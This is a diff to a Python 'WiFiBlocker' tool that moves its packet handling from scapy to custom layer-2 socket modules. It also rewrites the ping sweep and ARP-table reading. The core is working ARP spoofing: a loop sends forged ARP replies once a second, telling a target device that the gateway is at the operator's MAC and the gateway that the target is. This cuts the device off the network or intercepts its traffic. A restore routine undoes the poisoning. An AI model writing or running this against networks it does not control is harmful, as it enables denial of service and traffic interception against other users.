@@ -79,12 +79,13 @@ def check_npcap():
 NPCAP_INSTALLED = check_npcap()
 # Note: Npcap warning removed from module level - shown only when blocking is attempted
 
-# Import scapy with suppressed output
+# Suppress warnings from scapy (only imported by arp_io on platforms without AF_PACKET)
 import warnings
 warnings.filterwarnings("ignore")
 
-from scapy.all import ARP, send, conf
-conf.verb = 0  # Disable scapy verbosity
+from icmp_sweep import IcmpSweeper, raw_icmp_available
+from neighbor_table import read_neighbor_table
+from arp_io import get_l2_socket
 
 
 class WiFiBlocker:
@@ -223,32 +224,7 @@ class WiFiBlocker:
     
     def _get_mac_from_arp_cache(self, ip):
         """Get MAC address from system ARP cache."""
-        try:
-            if os.name == 'nt':
-                result = subprocess.run(
-                    ["arp", "-a", ip],
-                    capture_output=True,
-                    text=True,
-                    creationflags=0x08000000
-                )
-                for line in result.stdout.splitlines():
-                    if ip in line:
-                        parts = line.split()
-                        for part in parts:
-                            if "-" in part and len(part) == 17:
-                                return part.replace("-", ":").upper()
-            else:
-                with open("/proc/net/arp", "r") as f:
-                    next(f)
-                    for line in f:
-                        parts = line.split()
-                        if len(parts) >= 4 and parts[0] == ip:
-                            mac = parts[3]
-                            if mac != "00:00:00:00:00:00":
-                                return mac.upper()
-        except Exception:
-            pass
-        return None
+        return read_neighbor_table().get(ip)
     
     def scan_network(self):
         """Scan the network using ping sweep and ARP cache."""
@@ -293,67 +269,39 @@ class WiFiBlocker:
         return devices
     
     def _ping_sweep(self, prefix):
-        """Ping all IPs in subnet."""
+        """Ping all IPs in subnet (fills the system ARP cache)."""
         import concurrent.futures
         
         ips = [f"{prefix}.{i}" for i in range(1, 255)]
         
+        if raw_icmp_available():
+            source_ip = self.my_ip if os.name == 'nt' else None
+            IcmpSweeper(source_ip=source_ip).sweep(ips)
+            return
+        
         with concurrent.futures.ThreadPoolExecutor(max_workers=50) as executor:
             executor.map(self._ping_host, ips)
     
     def _read_arp_cache(self):
         """Read all entries from system ARP cache."""
-        entries = {}
-        
-        try:
-            if os.name == 'nt':
-                result = subprocess.run(
-                    ["arp", "-a"],
-                    capture_output=True,
-                    text=True,
-                    creationflags=0x08000000
-                )
-                for line in result.stdout.splitlines():
-                    parts = line.split()
-                    if len(parts) >= 2:
-                        for i, part in enumerate(parts):
-                            if part.count('.') == 3:
-                                try:
-                                    socket.inet_aton(part)
-                                    if i + 1 < len(parts):
-                                        mac_part = parts[i + 1]
-                                        if "-" in mac_part and len(mac_part) == 17:
-                                            entries[part] = mac_part.replace("-", ":").upper()
-                                except socket.error:
-                                    pass
-            else:
-                with open("/proc/net/arp", "r") as f:
-                    next(f)
-                    for line in f:
-                        parts = line.split()
-                        if len(parts) >= 4:
-                            ip = parts[0]
-                            mac = parts[3]
-                            if mac != "00:00:00:00:00:00":
-                                entries[ip] = mac.upper()
-        except Exception:
-            pass
-        
-        return entries
+        return read_neighbor_table()
     
-    def _send_arp_spoof(self, target_ip, target_mac, spoof_ip):
-        """Send ARP spoof packet. Returns True on success."""
+    def _send_arp_spoof(self, target_ip, target_mac, spoof_ip, *more):
+        """
+        Send ARP spoof packet(s) over the shared layer-2 socket. Returns True on success.
+        Further (target_ip, target_mac, spoof_ip) triples in `more` go out in the same batch.
+        """
         if not self.npcap_available:
             return False
         
+        l2 = get_l2_socket(self.my_ip)
+        if l2 is None:
+            return False
+        
         try:
-            arp_response = ARP(
-                op=2,
-                pdst=target_ip,
-                hwdst=target_mac,
-                psrc=spoof_ip
-            )
-            send(arp_response, verbose=0)
+            frames = [l2.builder.reply(target_ip, target_mac, spoof_ip)]
+            frames += [l2.builder.reply(ip, mac, spoof) for ip, mac, spoof in more]
+            l2.send_batch(frames)
             return True
         except Exception:
             return False
@@ -365,16 +313,14 @@ class WiFiBlocker:
         
         while self.blocked_devices.get(target_ip, {}).get("active", False):
             try:
-                # Tell target that gateway is at our MAC
-                if self._send_arp_spoof(target_ip, target_mac, self.gateway_ip):
+                # Tell target that gateway is at our MAC,
+                # and tell gateway that target is at our MAC
+                more = [(self.gateway_ip, self.gateway_mac, target_ip)] if self.gateway_mac else []
+                if self._send_arp_spoof(target_ip, target_mac, self.gateway_ip, *more):
                     success_count += 1
                 else:
                     fail_count += 1
                 
-                # Tell gateway that target is at our MAC
-                if self.gateway_mac:
-                    self._send_arp_spoof(self.gateway_ip, self.gateway_mac, target_ip)
-                
                 time.sleep(1)
                 
             except Exception:
@@ -492,14 +438,16 @@ class WiFiBlocker:
         # Restore ARP (silently - may fail without Npcap)
         if self.npcap_available and self.gateway_mac:
             target_mac = self.blocked_devices[target_ip]["mac"]
+            l2 = get_l2_socket(self.my_ip)
             try:
-                for _ in range(3):
+                restore = [
                     # Restore target's ARP
-                    send(ARP(op=2, pdst=target_ip, hwdst=target_mac,
-                             psrc=self.gateway_ip, hwsrc=self.gateway_mac), verbose=0)
+                    l2.builder.reply(target_ip, target_mac, self.gateway_ip, self.gateway_mac),
                     # Restore gateway's ARP
-                    send(ARP(op=2, pdst=self.gateway_ip, hwdst=self.gateway_mac,
-                             psrc=target_ip, hwsrc=target_mac), verbose=0)
+                    l2.builder.reply(self.gateway_ip, self.gateway_mac, target_ip, target_mac)
+                ]
+                for _ in range(3):
+                    l2.send_batch(restore)
                     time.sleep(0.1)
             except Exception:
                 pass